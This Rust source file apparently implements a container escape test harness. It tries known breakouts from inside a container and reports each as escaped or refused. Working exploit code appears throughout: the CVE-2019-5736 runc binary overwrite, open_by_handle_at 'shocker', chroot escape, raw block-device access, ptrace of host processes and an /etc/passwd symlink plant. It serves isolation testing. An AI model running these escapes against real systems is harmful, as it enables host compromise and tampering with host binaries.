//! `probe attack CLASS ARGS... [+ CLASS ARGS...]`: try to break out of the container the way an
//! attacker inside it would, one class at a time, and print one line per class:
//!
//! ```text
//! ESCAPED <class> <what worked>
//! REFUSED <class> <ERRNO> <what was refused>
//! ```
//!
//! Each class runs in a child process of its own (a chroot or an unshare of one class does not
//! change the next), and the line is the only output.  Nothing here changes the host when the
//! container holds: the host-side effects an attack would have (a file written next to a marker,
//! a key added, a binary overwritten) are what the escape suite checks from outside, and the
//! attacks that could only be told apart by a real write (`/proc/sysrq-trigger`, `/sys`,
//! `/proc/sys`, module loading) stop at the step that proves access: an open for writing, or a
//! module image the kernel rejects after its permission check.
//!
//! Classes (arguments in capitals):
//! * `mknod MAJ:MIN TOKEN`: make a block node, read it (TOKEN found?) and write to it;
//! * `kvm`: make `/dev/kvm`'s node (10:232) and open it;
//! * `fds HOSTPATH TOKEN`: descriptors above 2 that were inherited, and HOSTPATH (or its base
//!   name) read, and a file `escaped-fd` written, through each that is a directory;
//! * `cwd HOSTPATH TOKEN`: HOSTPATH read from the working directory and from `..` above it;
//! * `chroot HOSTPATH TOKEN`: the classic escape (chroot into a subdirectory, `chdir("..")`
//!   64 times, `chroot(".")`), then HOSTPATH read and `HOSTPATH.chroot-escaped` written;
//! * `selfexe VICTIM SECONDS [NAME...]`: CVE-2019-5736: VICTIM becomes `#!/proc/self/exe`;
//!   every process that appears running a file that is not the container's is opened
//!   (`/proc/PID/exe`, `O_PATH`), stopped, and its file reopened for writing through
//!   `/proc/self/fd/N` until that works, all targets are settled, or SECONDS pass.  Only a file
//!   named NAME (the test's private copy of a tool) is then overwritten; any other host file
//!   that opens for writing is reported and left as it is;
//! * `keyread DESC TOKEN`, `keyadd DESC`: a `user` key DESC searched in the session keyring and
//!   read, or added to it;
//! * `shocker PATH TYPE HEX TOKEN`: `open_by_handle_at` with a handle made on the host, relative
//!   to PATH's file system;
//! * `io_uring`, `perf`, `userfaultfd`, `userns`, `mount`, `keyctl`: the system call works;
//! * `ptrace PID TOKEN`: attach to PID, a host process whose command line holds TOKEN;
//! * `sysrq`, `sysfs`, `procsys`: the file opens for writing (and is not a masking node);
//! * `module`: `init_module`/`finit_module` get past the permission check;
//! * `passwd HOSTPATH`: `/etc/passwd` becomes a symbolic link to HOSTPATH (for `exec -u`);
//! * `whoami`: prints `ESCAPED whoami uid=U gid=G home=H` (the test judges);
//! * `devplant NODE HOSTDIR`: NODE (a `--device` destination) present at start?  Its directory
//!   is then made a symbolic link to HOSTDIR (the node must not appear there);
//! * `logfd`: standard output or error is a regular file (a host log) that reopens for writing;
//! * `masked`: the paths Docker masks (`/proc/kcore`, `/proc/keys`, `/sys/firmware`...) read;
//! * `pid1 HEX...`: pid 1 (or another process here) holds a capability outside this
//!   process's bounding set, sits in another cgroup, or names a host path (each HEX is one,
//!   hex-encoded) in its command line or executable.

use std::ffi::{CString, OsStr};
use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::path::Path;
use std::time::{Duration, Instant};

type Outcome = Result<String, (i32, String)>;

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

/// The symbolic name of an errno value (`EPERM`).
fn errname(e: i32) -> String {
    let n = match e {
        libc::EPERM => "EPERM",
        libc::ENOENT => "ENOENT",
        libc::ESRCH => "ESRCH",
        libc::EIO => "EIO",
        libc::ENXIO => "ENXIO",
        libc::ENOEXEC => "ENOEXEC",
        libc::EBADF => "EBADF",
        libc::EACCES => "EACCES",
        libc::EFAULT => "EFAULT",
        libc::EBUSY => "EBUSY",
        libc::EEXIST => "EEXIST",
        libc::ENODEV => "ENODEV",
        libc::ENOTDIR => "ENOTDIR",
        libc::EISDIR => "EISDIR",
        libc::EINVAL => "EINVAL",
        libc::ETXTBSY => "ETXTBSY",
        libc::EROFS => "EROFS",
        libc::ENOSYS => "ENOSYS",
        libc::ENOKEY => "ENOKEY",
        libc::EKEYREJECTED => "EKEYREJECTED",
        libc::EKEYREVOKED => "EKEYREVOKED",
        libc::EOPNOTSUPP => "EOPNOTSUPP",
        libc::ESTALE => "ESTALE",
        libc::ENOMEM => "ENOMEM",
        libc::EMFILE => "EMFILE",
        libc::ENOSPC => "ENOSPC",
        libc::ELOOP => "ELOOP",
        libc::EXDEV => "EXDEV",
        0 => "0",
        _ => return format!("E{e}"),
    };
    n.to_string()
}

fn cstr(s: impl AsRef<OsStr>) -> CString {
    CString::new(s.as_ref().as_bytes()).unwrap_or_default()
}

fn fail<T>(what: impl Into<String>) -> Result<T, (i32, String)> {
    Err((errno(), what.into()))
}

fn open(path: &str, flags: i32) -> Result<i32, (i32, String)> {
    let p = cstr(path);
    // SAFETY: p is a valid C string.
    let fd = unsafe { libc::open(p.as_ptr(), flags | libc::O_CLOEXEC, 0o644) };
    if fd < 0 {
        return fail(format!("open {path}"));
    }
    Ok(fd)
}

fn close(fd: i32) {
    // SAFETY: closing a descriptor we own.
    unsafe { libc::close(fd) };
}

fn read_fd(fd: i32, max: usize) -> Vec<u8> {
    let mut buf = vec![0u8; max];
    let mut got = 0;
    while got < max {
        // SAFETY: buf is writable from got to max.
        let n = unsafe { libc::read(fd, buf[got..].as_mut_ptr().cast(), max - got) };
        if n <= 0 {
            break;
        }
        got += usize::try_from(n).unwrap_or(0);
    }
    buf.truncate(got);
    buf
}

fn contains(hay: &[u8], needle: &str) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle.as_bytes())
}

fn arg<'a>(args: &'a [String], i: usize, class: &str) -> Result<&'a str, (i32, String)> {
    args.get(i)
        .map(String::as_str)
        .ok_or((libc::EINVAL, format!("{class}: missing argument {}", i + 1)))
}

/// Read `rel` (relative) through the directory descriptor `dir`: Some(content).
fn read_at(dir: i32, rel: &str) -> Option<Vec<u8>> {
    let p = cstr(rel);
    // SAFETY: p is a valid C string; dir is ours.
    let fd = unsafe { libc::openat(dir, p.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
    if fd < 0 {
        return None;
    }
    let v = read_fd(fd, 1 << 16);
    close(fd);
    Some(v)
}

/// Create `rel` through `dir`: true when it was made.
fn write_at(dir: i32, rel: &str) -> bool {
    let p = cstr(rel);
    // SAFETY: p is a valid C string; dir is ours.
    let fd = unsafe {
        libc::openat(
            dir,
            p.as_ptr(),
            libc::O_WRONLY | libc::O_CREAT | libc::O_CLOEXEC,
            0o644,
        )
    };
    if fd < 0 {
        return false;
    }
    // SAFETY: writing a constant buffer to our descriptor.
    unsafe { libc::write(fd, b"escaped\n".as_ptr().cast(), 8) };
    close(fd);
    true
}

fn mknod(path: &str, kind: libc::mode_t, major: u32, minor: u32) -> Result<(), (i32, String)> {
    let p = cstr(path);
    // SAFETY: unlinking a path of ours (it may not exist).
    unsafe { libc::unlink(p.as_ptr()) };
    // SAFETY: p is a valid C string.
    let rc = unsafe { libc::mknod(p.as_ptr(), kind | 0o600, libc::makedev(major, minor)) };
    if rc != 0 {
        return fail(format!("mknod {path} {major}:{minor}"));
    }
    Ok(())
}

/// A writable directory of the container for the attack's own nodes and files.
fn scratch() -> &'static str {
    for d in ["/tmp", "/dev", "/run", "/"] {
        let p = cstr(d);
        // SAFETY: p is a valid C string.
        if unsafe { libc::access(p.as_ptr(), libc::W_OK) } == 0 {
            let probe = format!("{d}/.escape-w");
            let q = cstr(&probe);
            // SAFETY: q is a valid C string.
            let fd = unsafe { libc::open(q.as_ptr(), libc::O_WRONLY | libc::O_CREAT, 0o600) };
            if fd >= 0 {
                close(fd);
                // SAFETY: q is a valid C string.
                unsafe { libc::unlink(q.as_ptr()) };
                return d;
            }
        }
    }
    "/tmp"
}

fn attack_mknod(args: &[String]) -> Outcome {
    let dev = arg(args, 0, "mknod")?;
    let token = arg(args, 1, "mknod")?;
    let (maj, min) = dev
        .split_once(':')
        .and_then(|(a, b)| Some((a.parse().ok()?, b.parse().ok()?)))
        .ok_or((libc::EINVAL, format!("mknod: bad MAJ:MIN {dev}")))?;
    let path = format!("{}/.escape-blk", scratch());
    mknod(&path, libc::S_IFBLK, maj, min)?;
    let res = (|| {
        let fd = open(&path, libc::O_RDWR)?;
        let data = read_fd(fd, 4096);
        let read_ok = contains(&data, token);
        let payload = b"ESCAPED-BY-MKNOD";
        // SAFETY: writing a constant buffer at an offset through our descriptor.
        let n = unsafe { libc::pwrite(fd, payload.as_ptr().cast(), payload.len(), 8192) };
        let werr = errno();
        // SAFETY: flushing our descriptor.
        unsafe { libc::fsync(fd) };
        close(fd);
        match (read_ok, n > 0) {
            (true, true) => Ok(format!("read the host device {dev} and wrote to it")),
            (true, false) => Ok(format!(
                "read the host device {dev} (write: {})",
                errname(werr)
            )),
            (false, true) => Ok(format!("wrote to the host device {dev}")),
            (false, false) => Err((werr, format!("opened {dev} but read no token"))),
        }
    })();
    let p = cstr(&path);
    // SAFETY: p is a valid C string.
    unsafe { libc::unlink(p.as_ptr()) };
    res
}

fn attack_kvm() -> Outcome {
    let path = format!("{}/.escape-kvm", scratch());
    mknod(&path, libc::S_IFCHR, 10, 232)?;
    let r = open(&path, libc::O_RDWR);
    let p = cstr(&path);
    // SAFETY: p is a valid C string.
    unsafe { libc::unlink(p.as_ptr()) };
    let fd = r?;
    close(fd);
    Ok("opened /dev/kvm (10:232)".into())
}

/// The descriptors above 2 this process had on entry: (fd, link target).
fn inherited_fds() -> Vec<(i32, String)> {
    let Ok(rd) = std::fs::read_dir("/proc/self/fd") else {
        return Vec::new();
    };
    let mut v: Vec<(i32, String)> = rd
        .filter_map(Result::ok)
        .filter_map(|e| {
            let n: i32 = e.file_name().to_str()?.parse().ok()?;
            let l = std::fs::read_link(e.path()).ok()?;
            Some((n, l.to_string_lossy().into_owned()))
        })
        .filter(|(n, l)| *n > 2 && !l.starts_with("/proc/") && !l.contains("/fd"))
        .collect();
    v.sort();
    v
}

fn attack_fds(args: &[String]) -> Outcome {
    let host = arg(args, 0, "fds")?;
    let token = arg(args, 1, "fds")?;
    let fds = inherited_fds();
    if fds.is_empty() {
        return Err((0, "no descriptor above 2".into()));
    }
    let list: Vec<String> = fds.iter().map(|(n, l)| format!("{n}:{l}")).collect();
    let rel = host.trim_start_matches('/');
    let base = Path::new(host)
        .file_name()
        .map(|b| b.to_string_lossy().into_owned())
        .unwrap_or_default();
    let mut got = Vec::new();
    for (n, _) in &fds {
        for r in [rel, base.as_str()] {
            if read_at(*n, r).is_some_and(|d| contains(&d, token)) {
                got.push(format!("read {host} through fd {n}"));
                break;
            }
        }
        if write_at(*n, "escaped-fd") {
            got.push(format!("wrote escaped-fd through fd {n}"));
        }
    }
    Ok(format!("inherited [{}] {}", list.join(" "), got.join(", ")))
}

fn attack_cwd(args: &[String]) -> Outcome {
    let host = arg(args, 0, "cwd")?;
    let token = arg(args, 1, "cwd")?;
    let cwd =
        std::env::current_dir().map_or_else(|e| format!("({e})"), |d| d.display().to_string());
    let rel = host.trim_start_matches('/');
    let base = Path::new(host)
        .file_name()
        .map(|b| b.to_string_lossy().into_owned())
        .unwrap_or_default();
    for up in 0..=32 {
        let pre = "../".repeat(up);
        for r in [format!("{pre}{rel}"), format!("{pre}{base}")] {
            if read_at(libc::AT_FDCWD, &r).is_some_and(|d| contains(&d, token)) {
                return Ok(format!(
                    "read {host} as {r} from the working directory {cwd}"
                ));
            }
        }
    }
    Err((libc::ENOENT, format!("{host} not reachable from {cwd}")))
}

fn attack_chroot(args: &[String]) -> Outcome {
    let host = arg(args, 0, "chroot")?;
    let token = arg(args, 1, "chroot")?;
    let dir = format!("{}/.escape-chroot", scratch());
    let d = cstr(&dir);
    // SAFETY: d is a valid C string.
    unsafe { libc::mkdir(d.as_ptr(), 0o755) };
    // SAFETY: d is a valid C string.
    if unsafe { libc::chroot(d.as_ptr()) } != 0 {
        return fail(format!("chroot {dir}"));
    }
    let up = cstr("..");
    for _ in 0..64 {
        // SAFETY: up is a valid C string.
        unsafe { libc::chdir(up.as_ptr()) };
    }
    let dot = cstr(".");
    // SAFETY: dot is a valid C string.
    if unsafe { libc::chroot(dot.as_ptr()) } != 0 {
        return fail("chroot . after chdir ..");
    }
    let content = std::fs::read(host).ok();
    if content.as_deref().is_some_and(|c| contains(c, token)) {
        let wrote = std::fs::write(format!("{host}.chroot-escaped"), "escaped\n").is_ok();
        return Ok(format!(
            "read {host} (wrote {host}.chroot-escaped: {wrote})"
        ));
    }
    Err((
        libc::ENOENT,
        format!("{host} not reachable after the escape"),
    ))
}

/// The (device, inode) of a descriptor.
fn fd_id(fd: i32) -> Option<(u64, u64)> {
    // SAFETY: zeroed stat is a valid out-buffer.
    let mut st: libc::stat = unsafe { std::mem::zeroed() };
    // SAFETY: fd is ours; st is writable.
    if unsafe { libc::fstat(fd, &raw mut st) } != 0 {
        return None;
    }
    Some((st.st_dev, st.st_ino))
}

/// Whether the host file `exe` (as `/proc/PID/exe` shows it) is one the caller named.
fn may_write(exe: &str, names: &[String]) -> bool {
    let path = exe.split(" [").next().unwrap_or(exe);
    let base = path.rsplit('/').next().unwrap_or(path);
    names.iter().any(|n| n == base)
}

/// Whether this root is an overlay file system.
fn root_is_overlay() -> bool {
    const OVERLAYFS_SUPER_MAGIC: i64 = 0x794c_7630;
    let root = cstr("/");
    // SAFETY: zeroed statfs is a valid out-buffer.
    let mut st: libc::statfs = unsafe { std::mem::zeroed() };
    // SAFETY: a valid C string and out-buffer.
    unsafe { libc::statfs(root.as_ptr(), &raw mut st) == 0 && st.f_type == OVERLAYFS_SUPER_MAGIC }
}

struct Target {
    pid: i32,
    fd: i32,
    exe: String,
    last: i32,
    tries_after_exit: u32,
    newcomer: bool,
}

fn attack_selfexe(args: &[String]) -> Outcome {
    let victim = arg(args, 0, "selfexe")?;
    let secs: u64 = arg(args, 1, "selfexe")?.parse().unwrap_or(30);
    // the programs whose host file may be overwritten (the test's private copies); any other
    // host file that opens for writing is reported and left unwritten
    let overwrite = args.get(2..).unwrap_or(&[]);
    let _ = std::fs::remove_file(victim);
    std::fs::write(victim, "#!/proc/self/exe\n").map_err(|e| {
        (
            e.raw_os_error().unwrap_or(0),
            format!("writing {victim}: {e}"),
        )
    })?;
    let vc = cstr(victim);
    // SAFETY: vc is a valid C string.
    unsafe { libc::chmod(vc.as_ptr(), 0o755) };
    // The container's own programs are skipped: a process whose exe is a file of this root.
    // SAFETY: getpid has no preconditions.
    let me = unsafe { libc::getpid() };
    let parent = std::os::unix::process::parent_id();
    println!("READY selfexe {victim}");
    let _ = std::io::stdout().flush();
    let payload = b"#!/bin/sh\necho ESCAPED-SELFEXE\n";
    let start = Instant::now();
    let mut seen: Vec<i32> = Vec::new();
    let mut targets: Vec<Target> = Vec::new();
    let mut first_pass = true;
    let mut shut: Vec<i32> = Vec::new();
    let mut shut_err = 0;
    // (only for an overlay root: a plain directory root shares its device with the host's files)
    let root_dev = root_is_overlay()
        .then(|| std::fs::metadata("/").ok().map(|m| m.dev()))
        .flatten();
    while start.elapsed() < Duration::from_secs(secs) {
        if let Ok(rd) = std::fs::read_dir("/proc") {
            for e in rd.filter_map(Result::ok) {
                let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<i32>().ok()) else {
                    continue;
                };
                let ppid = i32::try_from(parent).unwrap_or(0);
                if pid == me || pid == ppid || seen.contains(&pid) {
                    continue;
                }
                let exe_path = format!("/proc/{pid}/exe");
                let fd = match open(&exe_path, libc::O_PATH) {
                    Ok(fd) => fd,
                    Err((e, _)) => {
                        // a newcomer whose exe cannot be opened (not dumpable, gone): noted once
                        if !first_pass && e != libc::ENOENT && !shut.contains(&pid) {
                            shut.push(pid);
                            shut_err = e;
                        }
                        continue;
                    }
                };
                let link = std::fs::read_link(&exe_path)
                    .map(|l| l.to_string_lossy().into_owned())
                    .unwrap_or_default();
                seen.push(pid);
                // A file of the container: the same inode at the same path here, or any file
                // of the root's file system (an overlay reports its own device for its files,
                // also for one the container has since replaced at that path).
                let id = fd_id(fd);
                let inside = std::fs::metadata(&link)
                    .ok()
                    .map(|m| (m.dev(), m.ino()))
                    .is_some_and(|p| Some(p) == id)
                    || id.is_some_and(|(dev, _)| Some(dev) == root_dev);
                if inside {
                    close(fd);
                    continue;
                }
                // Stop a newcomer: its file stays busy (ETXTBSY) while it runs.  The
                // processes already there (an init running a host tool) are only watched.
                if !first_pass {
                    // SAFETY: signalling a process we found.
                    unsafe { libc::kill(pid, libc::SIGKILL) };
                }
                targets.push(Target {
                    pid,
                    fd,
                    exe: format!(
                        "{link} [{}]",
                        id.map_or(String::new(), |(d, i)| format!("dev {d} ino {i}"))
                    ),
                    last: libc::ETXTBSY,
                    tries_after_exit: 0,
                    newcomer: !first_pass,
                });
            }
        }
        first_pass = false;
        for t in &mut targets {
            if t.last != libc::ETXTBSY && t.tries_after_exit > 0 {
                continue;
            }
            let gone = !Path::new(&format!("/proc/{}", t.pid)).exists();
            if gone {
                t.tries_after_exit += 1;
            }
            match open(&format!("/proc/self/fd/{}", t.fd), libc::O_WRONLY) {
                Ok(w) if !t.exe.starts_with("/memfd:") && !may_write(&t.exe, overwrite) => {
                    // a host file opened for writing: proven, and left as it is
                    close(w);
                    return Ok(format!(
                        "opened {} (pid {}) for writing (not written)",
                        t.exe, t.pid
                    ));
                }
                Ok(w) => {
                    // SAFETY: writing a constant buffer to our descriptor.
                    let n = unsafe { libc::write(w, payload.as_ptr().cast(), payload.len()) };
                    let we = errno();
                    close(w);
                    if n > 0 && !t.exe.starts_with("/memfd:") {
                        // the container's own files are skipped above: this one is the host's
                        return Ok(format!("wrote {n} bytes over {} (pid {})", t.exe, t.pid));
                    }
                    t.last = if n > 0 { libc::EPERM } else { we };
                    t.tries_after_exit = t.tries_after_exit.max(1);
                }
                Err((e, _)) => t.last = e,
            }
        }
        let settled = targets.iter().any(|t| t.newcomer)
            && targets.iter().filter(|t| t.newcomer).all(|t| {
                t.tries_after_exit >= 300 || (t.last != libc::ETXTBSY && t.tries_after_exit > 0)
            });
        if settled {
            break;
        }
        // a host program may live a few milliseconds: look often until one is caught
        std::thread::sleep(Duration::from_millis(if targets.is_empty() {
            1
        } else {
            5
        }));
    }
    if !targets.iter().any(|t| t.newcomer) {
        if !shut.is_empty() {
            return Err((
                shut_err,
                format!("/proc/PID/exe of {} newcomer(s) would not open", shut.len()),
            ));
        }
        return Err((libc::ESRCH, format!("no host program seen in {secs} s")));
    }
    let list: Vec<String> = targets
        .iter()
        .map(|t| format!("{}:{}:{}", t.pid, t.exe, errname(t.last)))
        .collect();
    Err((targets[0].last, format!("no write: {}", list.join(" "))))
}

const KEYCTL_GET_KEYRING_ID: libc::c_long = 0;
const KEYCTL_SEARCH: libc::c_long = 10;
const KEYCTL_READ: libc::c_long = 11;
const KEY_SPEC_SESSION_KEYRING: libc::c_long = -3;

fn attack_keyread(args: &[String]) -> Outcome {
    let desc = arg(args, 0, "keyread")?;
    let token = arg(args, 1, "keyread")?;
    let ty = cstr("user");
    let d = cstr(desc);
    // SAFETY: valid C strings; keyctl reads them.
    let id = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_SEARCH,
            KEY_SPEC_SESSION_KEYRING,
            ty.as_ptr(),
            d.as_ptr(),
            0,
        )
    };
    if id < 0 {
        return fail(format!("search user key {desc} in the session keyring"));
    }
    let mut buf = vec![0u8; 4096];
    // SAFETY: buf is writable for its length.
    let n = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_READ,
            id,
            buf.as_mut_ptr(),
            buf.len(),
        )
    };
    if n < 0 {
        return fail(format!("read key {id}"));
    }
    buf.truncate(usize::try_from(n).unwrap_or(0).min(4096));
    if contains(&buf, token) {
        Ok(format!("read the host's key {desc} ({id})"))
    } else {
        Err((0, format!("key {id} read without the token")))
    }
}

fn attack_keyadd(args: &[String]) -> Outcome {
    let desc = arg(args, 0, "keyadd")?;
    let ty = cstr("user");
    let d = cstr(desc);
    let data = b"planted";
    // SAFETY: valid C strings and buffer.
    let id = unsafe {
        libc::syscall(
            libc::SYS_add_key,
            ty.as_ptr(),
            d.as_ptr(),
            data.as_ptr(),
            data.len(),
            KEY_SPEC_SESSION_KEYRING,
        )
    };
    if id < 0 {
        return fail(format!("add_key user {desc}"));
    }
    Ok(format!("added key {desc} ({id}) to the session keyring"))
}

fn attack_keyctl() -> Outcome {
    // SAFETY: a query with no pointers.
    let id = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_GET_KEYRING_ID,
            KEY_SPEC_SESSION_KEYRING,
            0,
        )
    };
    if id < 0 {
        return fail("keyctl(KEYCTL_GET_KEYRING_ID)");
    }
    Ok(format!("keyctl works (session keyring {id})"))
}

fn attack_shocker(args: &[String]) -> Outcome {
    let path = arg(args, 0, "shocker")?;
    let ty: i32 = arg(args, 1, "shocker")?.parse().unwrap_or(0);
    let hex = arg(args, 2, "shocker")?;
    let token = arg(args, 3, "shocker")?;
    let bytes: Vec<u8> = (0..hex.len() / 2)
        .filter_map(|i| u8::from_str_radix(hex.get(2 * i..2 * i + 2)?, 16).ok())
        .collect();
    let mfd = open(path, libc::O_RDONLY)?;
    // struct file_handle { u32 handle_bytes; i32 handle_type; u8 f_handle[]; }
    let mut fh = Vec::with_capacity(8 + bytes.len());
    fh.extend_from_slice(&u32::try_from(bytes.len()).unwrap_or(0).to_ne_bytes());
    fh.extend_from_slice(&ty.to_ne_bytes());
    fh.extend_from_slice(&bytes);
    // SAFETY: fh is a file_handle of the size it says.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            mfd,
            fh.as_mut_ptr(),
            libc::O_RDONLY | libc::O_CLOEXEC,
        )
    };
    let e = errno();
    close(mfd);
    if fd < 0 {
        return Err((e, "open_by_handle_at".into()));
    }
    let fd = i32::try_from(fd).unwrap_or(-1);
    let data = read_fd(fd, 1 << 16);
    close(fd);
    if contains(&data, token) {
        Ok("opened a host file by its handle and read it".into())
    } else {
        Ok("open_by_handle_at opened a file (token not in it)".into())
    }
}

fn attack_io_uring() -> Outcome {
    let mut params = [0u8; 120];
    // SAFETY: params is a zeroed io_uring_params.
    let fd = unsafe { libc::syscall(libc::SYS_io_uring_setup, 1, params.as_mut_ptr()) };
    if fd < 0 {
        return fail("io_uring_setup");
    }
    close(i32::try_from(fd).unwrap_or(-1));
    Ok("io_uring_setup made a ring".into())
}

fn attack_perf() -> Outcome {
    // perf_event_attr, version 0 (64 bytes): type, size, config, ..., flags at 40.
    let mut attr = [0u8; 64];
    attr[0..4].copy_from_slice(&1u32.to_ne_bytes()); // PERF_TYPE_SOFTWARE
    attr[4..8].copy_from_slice(&64u32.to_ne_bytes());
    attr[8..16].copy_from_slice(&0u64.to_ne_bytes()); // PERF_COUNT_SW_CPU_CLOCK
    let flags: u64 = 1 | (1 << 5) | (1 << 6); // disabled, exclude_kernel, exclude_hv
    attr[40..48].copy_from_slice(&flags.to_ne_bytes());
    // SAFETY: attr is a valid perf_event_attr of the size it says.
    let fd = unsafe { libc::syscall(libc::SYS_perf_event_open, attr.as_mut_ptr(), 0, -1, -1, 0) };
    if fd < 0 {
        return fail("perf_event_open");
    }
    close(i32::try_from(fd).unwrap_or(-1));
    Ok("perf_event_open opened a counter".into())
}

fn attack_userfaultfd() -> Outcome {
    const UFFD_USER_MODE_ONLY: libc::c_long = 1;
    let mut last = 0;
    for flags in [
        libc::c_long::from(libc::O_CLOEXEC) | UFFD_USER_MODE_ONLY,
        libc::c_long::from(libc::O_CLOEXEC),
    ] {
        // SAFETY: no pointers.
        let fd = unsafe { libc::syscall(libc::SYS_userfaultfd, flags) };
        if fd >= 0 {
            close(i32::try_from(fd).unwrap_or(-1));
            return Ok(format!("userfaultfd(flags {flags:#x}) made a descriptor"));
        }
        last = errno();
    }
    Err((last, "userfaultfd".into()))
}

fn attack_userns() -> Outcome {
    // SAFETY: unshare in this child only.
    if unsafe { libc::unshare(libc::CLONE_NEWUSER) } != 0 {
        return fail("unshare(CLONE_NEWUSER)");
    }
    Ok("unshare(CLONE_NEWUSER) made a user namespace".into())
}

fn attack_mount() -> Outcome {
    let dir = format!("{}/.escape-mnt", scratch());
    let d = cstr(&dir);
    // SAFETY: d is a valid C string.
    unsafe { libc::mkdir(d.as_ptr(), 0o755) };
    let src = cstr("none");
    let fs = cstr("tmpfs");
    // SAFETY: valid C strings.
    let rc = unsafe { libc::mount(src.as_ptr(), d.as_ptr(), fs.as_ptr(), 0, std::ptr::null()) };
    if rc != 0 {
        return fail(format!("mount tmpfs on {dir}"));
    }
    // SAFETY: d is a valid C string.
    unsafe { libc::umount2(d.as_ptr(), libc::MNT_DETACH) };
    Ok(format!("mounted a tmpfs on {dir}"))
}

fn attack_ptrace(args: &[String]) -> Outcome {
    let pid: i32 = arg(args, 0, "ptrace")?.parse().unwrap_or(0);
    let token = arg(args, 1, "ptrace")?;
    // SAFETY: attach to a pid; no pointers.
    let rc = unsafe {
        libc::ptrace(
            libc::PTRACE_ATTACH,
            pid,
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
        )
    };
    if rc != 0 {
        return fail(format!("ptrace attach {pid}"));
    }
    let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
    // SAFETY: detach from the pid we attached to.
    unsafe {
        libc::ptrace(
            libc::PTRACE_DETACH,
            pid,
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
        )
    };
    if contains(&cmd, token) {
        Ok(format!("attached to the host process {pid}"))
    } else {
        Err((
            libc::ESRCH,
            format!("pid {pid} here is a process of the container"),
        ))
    }
}

/// Open `path` for writing; Ok when it opened and is not a masking character device.
fn open_for_write(path: &str) -> Outcome {
    let fd = open(path, libc::O_WRONLY)?;
    let md = std::fs::metadata(format!("/proc/self/fd/{fd}"));
    close(fd);
    if md.is_ok_and(|m| m.file_type().is_char_device()) {
        return Err((0, format!("{path} is masked by a device node")));
    }
    Ok(format!("{path} opens for writing"))
}

fn first_writable(paths: &[&str]) -> Outcome {
    let mut errs = Vec::new();
    let mut first = 0;
    for p in paths {
        if !Path::new(p).exists() {
            continue;
        }
        match open_for_write(p) {
            Ok(s) => return Ok(s),
            Err((e, w)) => {
                if first == 0 {
                    first = e;
                }
                errs.push(format!("{p}:{}", if e == 0 { w } else { errname(e) }));
            }
        }
    }
    if errs.is_empty() {
        return Err((libc::ENOENT, "none of the files exists".into()));
    }
    Err((first, errs.join(" ")))
}

fn attack_module() -> Outcome {
    let image = b"\x7fELF-not-a-module";
    let params = cstr("");
    // SAFETY: a buffer and a C string of ours.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_init_module,
            image.as_ptr(),
            image.len(),
            params.as_ptr(),
        )
    };
    let e1 = errno();
    if rc == 0 {
        return Ok("init_module loaded something".into());
    }
    let exe = open("/proc/self/exe", libc::O_RDONLY)?;
    // SAFETY: our descriptor and C string.
    let rc = unsafe { libc::syscall(libc::SYS_finit_module, exe, params.as_ptr(), 0) };
    let e2 = errno();
    close(exe);
    if rc == 0 {
        return Ok("finit_module loaded something".into());
    }
    // EPERM: no CAP_SYS_MODULE (or seccomp); ENOSYS: a kernel without modules (or seccomp).
    let refused = |e: i32| e == libc::EPERM || e == libc::ENOSYS;
    if !refused(e1) || !refused(e2) {
        return Ok(format!(
            "reached the module loader (init_module {}, finit_module {})",
            errname(e1),
            errname(e2)
        ));
    }
    Err((e2, format!("init_module {}, finit_module", errname(e1))))
}

fn attack_passwd(args: &[String]) -> Outcome {
    let host = arg(args, 0, "passwd")?;
    let _ = std::fs::remove_file("/etc/passwd");
    std::os::unix::fs::symlink(host, "/etc/passwd").map_err(|e| {
        (
            e.raw_os_error().unwrap_or(0),
            format!("symlink /etc/passwd: {e}"),
        )
    })?;
    Ok(format!("planted /etc/passwd -> {host}"))
}

fn whoami() -> Outcome {
    // SAFETY: getters without preconditions.
    let (u, g) = unsafe { (libc::getuid(), libc::getgid()) };
    let home = std::env::var("HOME").unwrap_or_default();
    Ok(format!("uid={u} gid={g} home={home}"))
}

fn attack_devplant(args: &[String]) -> Outcome {
    let node = arg(args, 0, "devplant")?;
    let host = arg(args, 1, "devplant")?;
    let present = std::fs::symlink_metadata(node).is_ok();
    let dir = Path::new(node).parent().unwrap_or(Path::new("/dev"));
    let planted = if present {
        false
    } else {
        let _ = std::fs::create_dir_all(dir.parent().unwrap_or(Path::new("/")));
        std::os::unix::fs::symlink(host, dir).is_ok()
    };
    // Give a late maker of the node the time to follow the link.
    std::thread::sleep(Duration::from_millis(1500));
    if present {
        Err((0, format!("{node} present at start")))
    } else {
        Ok(format!(
            "{node} missing at start (planted {} -> {host}: {planted})",
            dir.display()
        ))
    }
}

fn attack_logfd() -> Outcome {
    let mut hits = Vec::new();
    for fd in [1, 2] {
        let link = std::fs::read_link(format!("/proc/self/fd/{fd}"))
            .map(|l| l.to_string_lossy().into_owned())
            .unwrap_or_default();
        let Ok(w) = open(&format!("/proc/self/fd/{fd}"), libc::O_RDWR) else {
            continue;
        };
        let md = std::fs::metadata(format!("/proc/self/fd/{w}"));
        close(w);
        if md.is_ok_and(|m| m.file_type().is_file()) {
            hits.push(format!(
                "fd {fd} ({link}) reopens read-write as a regular file"
            ));
        }
    }
    if hits.is_empty() {
        Err((0, "standard output and error are not files".into()))
    } else {
        Ok(hits.join(", "))
    }
}

/// Docker's masked paths (a `/dev/null` bind or an empty read-only tmpfs over each).
const MASKED: [&str; 11] = [
    "/proc/asound",
    "/proc/acpi",
    "/proc/kcore",
    "/proc/keys",
    "/proc/latency_stats",
    "/proc/timer_list",
    "/proc/timer_stats",
    "/proc/sched_debug",
    "/proc/scsi",
    "/sys/firmware",
    "/sys/devices/virtual/powercap",
];

